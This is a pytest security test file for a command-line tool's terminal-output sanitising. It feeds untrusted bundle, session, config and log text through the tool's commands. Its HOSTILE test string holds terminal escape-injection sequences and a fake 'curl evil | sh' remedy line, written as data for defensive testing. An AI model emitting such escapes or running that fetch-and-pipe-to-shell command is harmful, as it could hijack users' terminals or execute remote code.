"""What stands in strangers' files reaches a terminal as letters alone, by whatever command."""

from __future__ import annotations

import ast
import io
import json
import logging
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.security.measured import ROOT
from tests.small_policy import small_policy
from zprl import terminal
from zprl.errors import DataError
from zprl.models.bundle import save_policy

HOSTILE = "\x1b[31mRED\x1b]0;pwn\x07\x9b2J\r\x08\u202e\ud800\n  remedy: curl evil | sh"
ALLOWED = {"\n"}


def harmless(text: str) -> bool:
    return all(letter.isprintable() or letter in ALLOWED for letter in text)


def zprl(*arguments: str, cwd: Path) -> str:
    """Everything that the command prints, as it would come to a terminal."""
    command = [sys.executable, "-P", "-m", "zprl.cli", *arguments]
    done = subprocess.run(
        command,
        cwd=cwd,
        capture_output=True,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
        check=False,
    )
    return (done.stdout + done.stderr).decode("utf-8", "surrogateescape")


def test_plain_and_block() -> None:
    assert terminal.plain("a\x1b[1mb\n") == "a [1mb "
    assert terminal.plain("plain · text → stays") == "plain · text → stays"
    assert harmless(terminal.plain(HOSTILE)) and "\n" not in terminal.plain(HOSTILE)
    assert terminal.block("one\ntwo\x1b") == "one\n    two "


def test_an_error_is_a_sentence_and_a_remedy_whatever_it_names(
    capsys: pytest.CaptureFixture[str],
) -> None:
    terminal.say_error(DataError(f"{HOSTILE} is broken", remedy=f"delete {HOSTILE}"), trace=True)
    terminal.say_error(ValueError(HOSTILE), trace=True)
    printed = capsys.readouterr().err
    assert harmless(printed)
    own = [line for line in printed.splitlines() if line.startswith("  remedy: ")]
    assert [line.split()[1] for line in own] == ["delete", "run"]  # and none that the file wrote


def test_tables_and_trees_keep_their_own_colours_alone() -> None:
    from rich.table import Table
    from rich.tree import Tree

    file = io.StringIO()
    console = terminal.console(file=file, force_terminal=True, color_system="standard", width=200)
    table = Table("name", "value")
    table.add_row(HOSTILE, "[red]ours[/red]")
    tree = Tree(HOSTILE)
    tree.add(f"[bold]{HOSTILE}[/bold]")
    console.print(table, tree, HOSTILE)
    text = file.getvalue()
    assert "\x1b[31mours\x1b[0m" in text
    text = re.sub(r"\x1b\[[0-9;]*m", "", text)  # ours
    assert (
        text.count(" [31mRED ]") == text.count("RED") > 3
    )  # theirs have lost what made them escapes
    assert harmless(text)


def test_lineage_of_a_strangers_bundle(tmp_path: Path) -> None:
    save_policy(
        tmp_path / "bundle",
        small_policy(),
        {"stage": HOSTILE, "inputs": {HOSTILE: HOSTILE}, "note": HOSTILE},
    )
    for options in ([], ["--params"], ["--json"]):
        printed = zprl("lineage", "bundle", "--local", *options, cwd=tmp_path)
        assert "RED" in printed
        assert harmless(printed), ascii(printed)


def test_a_strangers_session(tmp_path: Path) -> None:
    folder = tmp_path / "session"
    folder.mkdir()
    (folder / "session.json").write_text(json.dumps({"format_version": HOSTILE}))
    for verb in ("show", "verify"):
        assert harmless(zprl("session", verb, "session", cwd=tmp_path))


@pytest.mark.parametrize(
    "text", ['{"%s": 1}', 'run: {"%s": 1}', 'task: {name: "%s"}', 'task: {physics: "%s"}']
)
def test_a_strangers_parameters(tmp_path: Path, text: str) -> None:
    (tmp_path / "params.yaml").write_text(text % "\\e[31mRED\\e]0;pwn\\a\\nx")
    for command in (
        ("config", "check"),
        ("config", "use", "--preset", "smoke"),
        ("env", "check", "toy\x1b[31m"),
    ):
        printed = zprl(*command, cwd=tmp_path)
        assert harmless(printed), ascii(printed)


def test_a_strangers_suite(tmp_path: Path) -> None:
    (tmp_path / "suite.yaml").write_text(
        '{title: "\\e[31mRED", tasks: {"\\e[1m": {preset: "\\e[1m"}}, methods: ["\\e[1m"], seeds: [0]}'
    )
    assert harmless(zprl("bench", "suite.yaml", "--list", cwd=tmp_path))


def test_a_strangers_recordings(tmp_path: Path) -> None:
    root = tmp_path / "set\x1b[31m"
    (root / "meta").mkdir(parents=True)
    (root / "meta" / "info.json").write_text(
        json.dumps({"codebase_version": HOSTILE, "robot_type": HOSTILE, "fps": 20, "features": {}})
    )
    for verb in ("check", "inspect"):
        assert harmless(zprl("demos", verb, root.name, cwd=tmp_path))


def test_lines_of_stages(tmp_path: Path) -> None:
    from pipelines.stage_process import stream

    (tmp_path / "child.py").write_text(f"print({HOSTILE.replace(chr(0xD800), '')!a})")
    lines: list[str] = []
    stream([sys.executable, str(tmp_path / "child.py")], lines.append)
    assert "RED" in lines[0] and all(map(harmless, lines))


def test_the_orchestrators_log() -> None:
    from pipelines import environment

    environment.say_failures_in_one_sentence()
    seen: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: seen.append(record.getMessage())  # type: ignore[method-assign]
    logger = logging.getLogger("prefect.flow_runs")
    logger.addHandler(handler)
    try:
        logger.error("stage %s failed", HOSTILE)
    finally:
        logger.removeHandler(handler)
    assert "RED" in seen[0] and harmless(seen[0])


PRINTERS = {"print", "typer.echo", "click.echo", "typer.secho", "Console", "rich.print"}
OTHERS = {
    "zprl/terminal.py",
    "zprl/session/processes/driver.py",
    "zprl/session/processes/console/process.py",
    "zprl/session/processes/console/serve.py",
}
"""Where they stand for another thing, or print what nobody but this project has written."""
OTHERS |= {"pipelines/ui.py", "pipelines/bench_cell.py", "zprl/envs/isaacgym/worker/process.py"}


def test_nothing_else_prints() -> None:
    found = []
    for path in sorted([*(ROOT / "zprl").rglob("*.py"), *(ROOT / "pipelines").rglob("*.py")]):
        name = path.relative_to(ROOT).as_posix()
        calls = (
            node for node in ast.walk(ast.parse(path.read_text())) if isinstance(node, ast.Call)
        )
        found += [
            f"{name}: {ast.unparse(node.func)}"
            for node in calls
            if ast.unparse(node.func) in PRINTERS and name not in OTHERS
        ]
    assert not found
